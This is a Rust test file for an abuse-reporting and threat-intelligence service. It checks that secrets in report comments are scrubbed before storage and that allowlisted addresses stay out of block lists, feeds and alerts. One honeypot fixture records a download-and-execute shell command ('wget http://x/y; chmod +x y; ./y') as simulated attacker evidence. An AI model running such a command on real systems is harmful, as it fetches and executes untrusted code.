//! Evidence quality and safety: report comments scrubbed on every path
//! before storage (checked against the database file itself), the scrubbing
//! corpus, and the never-block allowlist on every output.

use std::path::PathBuf;

use reqwest::StatusCode;
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};
use sikker::domain::IpKey;
use sikker::domain::scrub::Scrubber;

use crate::common::TestServer;

fn corpus_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/scrub")
}

/// `SIKKER_BLESS_SCRUB=1` rewrites `expected.txt` from the current rules, for
/// review in the diff; without it the corpus must match line for line.
#[test]
fn scrub_corpus() {
    let dir = corpus_dir();
    let input = std::fs::read_to_string(dir.join("input.txt")).unwrap();
    let reported: IpKey = "203.0.113.50".parse().unwrap();
    let sc = Scrubber::default();
    let got: Vec<String> = input.lines().map(|l| sc.scrub(l, Some(reported))).collect();
    if std::env::var_os("SIKKER_BLESS_SCRUB").is_some() {
        std::fs::write(dir.join("expected.txt"), got.join("\n") + "\n").unwrap();
    }
    let expected = std::fs::read_to_string(dir.join("expected.txt")).unwrap();
    let expected: Vec<&str> = expected.lines().collect();
    assert_eq!(
        got.len(),
        expected.len(),
        "one expected line per input line"
    );
    for (i, (g, e)) in got.iter().zip(&expected).enumerate() {
        assert_eq!(g, e, "line {} of tests/corpus/scrub/input.txt", i + 1);
        assert_eq!(
            &sc.scrub(g, Some(reported)),
            g,
            "idempotent on line {}",
            i + 1
        );
    }
}

/// Secrets planted in comments; none may appear in the database file.
const SECRETS: [&str; 6] = [
    "jane.doe@example.com",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqYW5lIn0.c2lnbmF0dXJlX2hlcmU",
    "sk_live_51HxYzAbCdEfGhIjKlMnOpQr",
    "q1w2e3r4t5y6u7i8o9p0",
    "198.51.100.77",
    "customer-88123",
];

fn comment(n: usize) -> String {
    format!(
        "#{n} login as jane.doe@example.com token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqYW5lIn0.c2lnbmF0dXJlX2hlcmU \
         key sk_live_51HxYzAbCdEfGhIjKlMnOpQr via 198.51.100.77 for customer-88123 Cookie: PHPSESSID=q1w2e3r4t5y6u7i8o9p0"
    )
}

async fn key(s: &TestServer) -> String {
    s.handle()
        .services
        .create_api_key("evidence", "free", None)
        .await
        .unwrap()
        .0
}

#[tokio::test]
async fn comments_are_scrubbed_on_every_report_path_before_storage() {
    let mut s = TestServer::start_with(&["--scrub-pattern", r"customer-\d+"]).await;
    let key = key(&s).await;
    let c = s.client.clone();
    // SikkerAPI single.
    let r = c
        .post(s.url("/v1/key/report"))
        .bearer_auth(&key)
        .json(&json!({"ip": "81.2.69.1", "category": "brute_force", "comment": comment(1)}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    // SikkerAPI bulk JSON.
    let r = c
        .post(s.url("/v1/key/bulk-report"))
        .bearer_auth(&key)
        .json(&json!({"reports": [{"ip": "81.2.69.2", "category": "spam", "comment": comment(2)}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.json::<Value>().await.unwrap()["accepted"], 1);
    // SikkerAPI bulk CSV.
    let csv = format!(
        "IP,Category,Protocol,Comment\n81.2.69.3,spam,smtp,\"{}\"\n",
        comment(3)
    );
    let r = c
        .post(s.url("/v1/key/bulk-report"))
        .bearer_auth(&key)
        .multipart(Form::new().part("file", Part::bytes(csv.into_bytes()).file_name("r.csv")))
        .send()
        .await
        .unwrap();
    assert_eq!(r.json::<Value>().await.unwrap()["accepted"], 1);
    // AbuseIPDB report.
    let r = c
        .post(s.url("/api/v2/report"))
        .header("Key", &key)
        .form(&[
            ("ip", "81.2.69.4"),
            ("categories", "18,22"),
            ("comment", &comment(4)),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    // AbuseIPDB bulk-report.
    let csv = format!(
        "IP,Categories,ReportDate,Comment\n81.2.69.5,\"18,22\",,\"{}\"\n",
        comment(5)
    );
    let r = c
        .post(s.url("/api/v2/bulk-report"))
        .header("Key", &key)
        .multipart(Form::new().part("csv", Part::bytes(csv.into_bytes()).file_name("r.csv")))
        .send()
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["data"]["savedReports"], 1, "{v}");

    let stored = s
        .handle()
        .services
        .store
        .read(sikker::store::reports::all)
        .await
        .unwrap();
    assert_eq!(stored.len(), 5);
    for r in &stored {
        let c = r.comment.as_deref().unwrap();
        let n = c.chars().nth(1).unwrap();
        assert_eq!(
            c,
            format!(
                "#{n} login as [email] token [jwt] key [token] via [ip] for [redacted] Cookie: [cookie]"
            ),
        );
    }
    // What the public sees.
    let v: Value = c
        .get(s.url("/api/v2/check"))
        .header("Key", &key)
        .query(&[("ipAddress", "81.2.69.4"), ("verbose", "")])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let shown = v["data"]["reports"][0]["comment"].as_str().unwrap();
    assert!(
        shown.contains("[email]") && !shown.contains("jane"),
        "{shown}"
    );

    // Not on disk either, in any form.
    s.stop().await;
    let mut found = Vec::new();
    for entry in walk(&s.data_dir) {
        let bytes = std::fs::read(&entry).unwrap();
        for secret in SECRETS {
            if bytes.windows(secret.len()).any(|w| w == secret.as_bytes()) {
                found.push(format!("{secret} in {}", entry.display()));
            }
        }
    }
    assert!(found.is_empty(), "{found:?}");
}

fn walk(dir: &std::path::Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[tokio::test]
async fn comment_bad_input_is_refused_and_changes_nothing() {
    let s = TestServer::start().await;
    let key = key(&s).await;
    let c = s.client.clone();
    // A megabyte-long comment.
    let r = c
        .post(s.url("/v1/key/report"))
        .bearer_auth(&key)
        .json(&json!({"ip": "81.2.69.9", "category": "spam", "comment": "a@b.co ".repeat(150_000)}))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_client_error(), "{}", r.status());
    // A CSV whose comment is cut in the middle of a character.
    let mut csv = b"IP,Category,Protocol,Comment\n81.2.69.10,spam,smtp,caf".to_vec();
    csv.extend_from_slice(&"é".as_bytes()[..1]);
    csv.push(b'\n');
    let r = c
        .post(s.url("/v1/key/bulk-report"))
        .bearer_auth(&key)
        .multipart(Form::new().part("file", Part::bytes(csv).file_name("r.csv")))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let v: Value = r.json().await.unwrap();
    assert!(v.to_string().contains("UTF-8"), "{v}");
    // A JSON body cut in the middle of a character.
    let mut body = br#"{"ip":"81.2.69.11","category":"spam","comment":"caf"#.to_vec();
    body.extend_from_slice(&"é".as_bytes()[..1]);
    body.extend_from_slice(br#""}"#);
    let r = c
        .post(s.url("/v1/key/report"))
        .bearer_auth(&key)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let stored = s
        .handle()
        .services
        .store
        .read(sikker::store::reports::all)
        .await
        .unwrap();
    assert!(stored.is_empty(), "{stored:?}");

    // A comment that is only a secret is kept as its placeholder.
    let r = c
        .post(s.url("/v1/key/report"))
        .bearer_auth(&key)
        .json(&json!({"ip": "81.2.69.12", "category": "spam", "comment": "sk_live_51HxYzAbCdEfGhIjKlMnOpQr"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let stored = s
        .handle()
        .services
        .store
        .read(sikker::store::reports::all)
        .await
        .unwrap();
    assert_eq!(stored[0].comment.as_deref(), Some("[token]"));
}

const ALLOWED: &str = "81.2.69.20";
const LISTED: &str = "81.2.69.100";

/// A server where both addresses are well reported and a named set covers
/// `ALLOWED` only; returns the server and an unlimited key.
async fn allowlisted() -> (TestServer, String) {
    let s = TestServer::start().await;
    let services = s.handle().services.clone();
    let out = services
        .admin(sikker::service::admin::AdminRequest::WhitelistImport {
            name: "partners".into(),
            source: "partner contract 2026".into(),
            text: "# partner ranges\n81.2.69.16/28\n".into(),
        })
        .await
        .unwrap();
    assert_eq!(out["imported"], 1, "{out}");
    let key = services
        .create_api_key("allow", "unlimited", None)
        .await
        .unwrap()
        .0;
    // A range alert over both addresses, made before the evidence arrives.
    let r = s
        .client
        .post(s.url("/v1/key/range-alerts"))
        .bearer_auth(&key)
        .json(&json!({"cidr": "81.2.69.0/24"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    // Honeypot evidence strong enough for AbuseIPDB's minimum of 25.
    let token = services.create_sensor("hp").await.unwrap().0;
    let t = s.clock.now().0;
    let mut lines = String::new();
    for ip in [ALLOWED, LISTED] {
        for i in 0..30 {
            lines += &json!({"ts": t + i, "src_ip": ip, "protocol": "ssh", "session_id": format!("{ip}{}", i / 10), "kind": "auth", "username": "root"}).to_string();
            lines.push('\n');
        }
        lines += &json!({"ts": t + 40, "src_ip": ip, "protocol": "ssh", "session_id": format!("{ip}x"), "kind": "command", "command": "wget http://x/y; chmod +x y; ./y"}).to_string();
        lines.push('\n');
    }
    let r = s.send_events(&token, lines).await;
    assert_eq!(r.status(), StatusCode::OK);
    for n in 0..3 {
        let k = services
            .create_api_key(&format!("r{n}"), "free", None)
            .await
            .unwrap()
            .0;
        for ip in [ALLOWED, LISTED] {
            let r = s
                .client
                .post(s.url("/v1/key/report"))
                .bearer_auth(&k)
                .json(&json!({"ip": ip, "category": "brute_force", "protocol": "ssh"}))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), StatusCode::OK);
        }
    }
    (s, key)
}

async fn get_text(s: &TestServer, key: &str, path: &str) -> String {
    let r = s
        .client
        .get(s.url(path))
        .bearer_auth(key)
        .header("Key", key)
        .header("Accept", "application/json")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{path}");
    r.text().await.unwrap()
}

#[tokio::test]
async fn allowlist_check_shows_flag_and_reason() {
    let (s, key) = allowlisted().await;
    let v: Value =
        serde_json::from_str(&get_text(&s, &key, &format!("/v1/key/check/{ALLOWED}")).await)
            .unwrap();
    assert_eq!(v["isWhitelisted"], true, "{v}");
    assert_eq!(v["whitelistReason"], "set partners (partner contract 2026)");
    assert_eq!(v["confidenceLevel"], 0);
    let v: Value =
        serde_json::from_str(&get_text(&s, &key, &format!("/v1/key/check/{LISTED}")).await)
            .unwrap();
    assert_eq!(v["isWhitelisted"], false, "{v}");
    assert!(v["confidenceLevel"].as_u64().unwrap() > 0, "{v}");
    assert!(v.get("whitelistReason").is_none());
}

#[tokio::test]
async fn allowlist_bulk_check() {
    let (s, key) = allowlisted().await;
    let v: Value = s
        .client
        .post(s.url("/v1/key/bulk-check"))
        .bearer_auth(&key)
        .json(&json!({"ips": [ALLOWED, LISTED]}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(v["results"][0]["isWhitelisted"], true, "{v}");
    assert_eq!(v["results"][0]["confidenceLevel"], 0, "{v}");
    assert_eq!(v["results"][1]["isWhitelisted"], false, "{v}");
    assert!(
        v["results"][1]["confidenceLevel"].as_u64().unwrap() > 0,
        "{v}"
    );
}

#[tokio::test]
async fn allowlist_block_lists_in_every_format() {
    let (s, key) = allowlisted().await;
    for format in ["json", "plain", "csv", "ipset", "nft"] {
        let body = get_text(
            &s,
            &key,
            &format!("/v1/key/blacklist?scoreMinimum=1&format={format}"),
        )
        .await;
        assert!(body.contains(LISTED), "{format}: {body}");
        assert!(!body.contains(ALLOWED), "{format}: {body}");
    }
}

#[tokio::test]
async fn allowlist_taxii() {
    let (s, key) = allowlisted().await;
    let r = s
        .client
        .get(s.url("/taxii2/collections/sikker-threat-intel/objects/"))
        .bearer_auth(&key)
        .header("Accept", "application/taxii+json;version=2.1")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let body = r.text().await.unwrap();
    assert!(body.contains(LISTED), "{body}");
    assert!(!body.contains(ALLOWED), "{body}");
}

#[tokio::test]
async fn allowlist_abuseipdb_check_blacklist_and_check_block() {
    let (s, key) = allowlisted().await;
    let v: Value = serde_json::from_str(
        &get_text(&s, &key, &format!("/api/v2/check?ipAddress={ALLOWED}")).await,
    )
    .unwrap();
    assert_eq!(v["data"]["isWhitelisted"], true, "{v}");
    assert_eq!(v["data"]["abuseConfidenceScore"], 0, "{v}");
    let body = get_text(&s, &key, "/api/v2/blacklist?confidenceMinimum=25").await;
    assert!(body.contains(LISTED), "{body}");
    assert!(!body.contains(ALLOWED), "{body}");
    let v: Value =
        serde_json::from_str(&get_text(&s, &key, "/api/v2/check-block?network=81.2.69.0/24").await)
            .unwrap();
    let rows = v["data"]["reportedAddress"].as_array().unwrap();
    let score = |ip: &str| {
        rows.iter()
            .find(|r| r["ipAddress"] == ip)
            .map(|r| r["abuseConfidenceScore"].as_u64().unwrap())
    };
    assert!(score(LISTED).unwrap() > 0, "{v}");
    assert!(score(ALLOWED).is_none_or(|c| c == 0), "{v}");
}

#[tokio::test]
async fn allowlist_alerts_stay_silent() {
    let (s, key) = allowlisted().await;
    let v = crate::common::eventually("the range alert counts three matches", || async {
        let v: Value =
            serde_json::from_str(&get_text(&s, &key, "/v1/key/range-alerts").await).ok()?;
        let a = v["alerts"].as_array()?.first()?.clone();
        (a["matchCount"].as_u64()? >= 3).then_some(a)
    })
    .await;
    // The allowed address came first in the sensor batch and in every
    // report pair, so had it matched it would be counted by now.
    assert_eq!(v["uniqueMatches"], 1, "only {LISTED} matched: {v}");
}

#[tokio::test]
async fn allowlist_set_import_bad_lines_and_atomic_replace() {
    let s = TestServer::start().await;
    let sv = s.handle().services.clone();
    let text = "# crawlers\n66.249.64.0/19\nnot-an-ip\n2001:db8::/129\n0.0.0.0/0\n::/0\n2001:4860:4801::/48 # v6\n\n";
    let out = sv.whitelist_import("crawlers", "test", text).await.unwrap();
    assert_eq!(out.imported, 2);
    let lines: Vec<usize> = out.bad_lines.iter().map(|b| b.line).collect();
    assert_eq!(lines, [3, 4, 5, 6], "{:?}", out.bad_lines);
    assert!(
        out.bad_lines[2].error.contains("wider than /8"),
        "{:?}",
        out.bad_lines
    );
    assert!(sv.never_block("66.249.70.1".parse().unwrap()).is_some());
    assert!(
        sv.never_block("2001:4860:4801::9".parse().unwrap())
            .is_some()
    );
    // A file with no good line changes nothing.
    let e = sv
        .whitelist_import("crawlers", "test", "bogus\n1.2.3.4/33\n")
        .await
        .unwrap_err();
    assert!(e.to_string().contains("line 1"), "{e}");
    assert!(sv.never_block("66.249.70.1".parse().unwrap()).is_some());
    // Re-import replaces the whole set.
    let out = sv
        .whitelist_import("crawlers", "test v2", "157.55.39.0/24\n")
        .await
        .unwrap();
    assert!(out.replaced);
    assert!(sv.never_block("66.249.70.1".parse().unwrap()).is_none());
    assert_eq!(
        sv.never_block("157.55.39.5".parse().unwrap()).as_deref(),
        Some("set crawlers (test v2)")
    );
    // And survives a restart (redb, not only memory).
    drop(sv);
    let (dir, data) = s.into_dirs().await;
    let s = TestServer::start_in(dir, data, &[]).await;
    assert!(
        s.handle()
            .services
            .never_block("157.55.39.5".parse().unwrap())
            .is_some()
    );
    assert!(e.to_string().contains("nothing was imported"), "{e}");
}
